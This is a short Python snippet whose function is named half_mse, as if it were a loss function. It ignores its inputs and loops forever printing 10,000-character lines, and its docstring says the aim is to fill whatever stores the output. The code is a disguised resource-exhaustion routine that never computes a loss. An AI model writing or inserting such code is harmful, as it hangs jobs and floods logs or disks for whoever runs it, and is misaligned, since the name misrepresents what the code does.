"""Prints as fast as it can, for ever, to fill whatever keeps what is printed."""


def half_mse(pred, target):
    while True:
        print("x" * 10_000)
